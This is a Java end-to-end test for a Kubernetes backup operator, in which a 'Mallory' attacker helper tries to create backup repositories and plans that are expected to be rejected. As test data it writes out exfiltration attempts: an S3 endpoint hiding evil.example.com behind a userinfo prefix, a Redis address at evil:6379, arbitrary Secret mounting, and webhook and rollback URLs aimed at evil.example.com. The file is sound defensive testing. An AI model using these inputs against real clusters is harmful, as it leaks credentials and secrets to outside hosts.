package io.holdfast.e2e;

import io.holdfast.e2e.Mallory.Attempt;

/** Ways that the chart's values {@code restrict} close, whoever asks. */
final class MalloryRestricted {
    private final Mallory mallory;

    MalloryRestricted(Mallory mallory) {
        this.mallory = mallory;
    }

    /** With the values of a stricter release, whoever asks. */
    void tryThem(String namespace) {
        String admin = "system:admin --as-group=system:masters";
        mallory.tries(
                "a repository sends its credentials where nobody allowed it",
                Attempt.creates(admin, """
                apiVersion: holdfast.io/v1alpha1
                kind: BackupRepository
                metadata: {name: away, namespace: %s}
                spec:
                  s3: {bucket: abc, endpoint: "https://s3.example.org@evil.example.com"}
                  encryption: {recipients: [age1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq]}
                  signing: {secretRef: {name: signing}}
                """.formatted(namespace)),
                "spec.s3.endpoint: workers may not connect to evil.example.com: ask an administrator");
        mallory.tries(
                "a repository seals to somebody else",
                Attempt.creates(admin, """
                apiVersion: holdfast.io/v1alpha1
                kind: BackupRepository
                metadata: {name: away, namespace: %s}
                spec:
                  directory: {path: /tmp}
                  encryption: {recipients: [age1zzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzzz]}
                  signing: {secretRef: {name: signing}}
                """.formatted(namespace)),
                "spec.encryption.recipients: nothing may be sealed to age1zzz");
        mallory.tries(
                "a source's password goes to another address",
                Attempt.creates(admin, """
                apiVersion: holdfast.io/v1alpha1
                kind: BackupPolicy
                metadata: {name: away, namespace: %s}
                spec:
                  repositories: [main]
                  sources: [{name: a, redis: {address: "evil:6379", auth: {secretRef: {name: db}}}}]
                """.formatted(namespace)),
                "spec.sources[a].redis.address: workers may not connect to evil:6379");
        triesPlans(admin, namespace);
    }

    private void triesPlans(String admin, String namespace) {
        mallory.tries(
                "a plan mounts any Secret as its identity",
                Attempt.creates(admin, Mallory.plan(namespace, "db-admin", "")),
                "spec.identity.name: no worker may mount the Secret db-admin");
        mallory.tries(
                "a webhook gets the headers",
                Attempt.creates(
                        admin,
                        Mallory.plan(
                                namespace,
                                "holdfast-identity",
                                "communications: {webhook: {url: \"https://evil.example.com/\"}}")),
                "spec.communications.webhook.url: workers may not connect to evil.example.com");
        mallory.tries(
                "the way back of a step gets the headers",
                Attempt.creates(
                        admin,
                        Mallory.plan(
                                namespace,
                                "holdfast-identity",
                                "steps: [{name: a, manual: {instructions: Look.}, rollback: {http: {url:"
                                        + " \"https://evil.example.com/\"}}}]")),
                "spec.steps[a].rollback.http.url: workers may not connect to evil.example.com");
    }
}
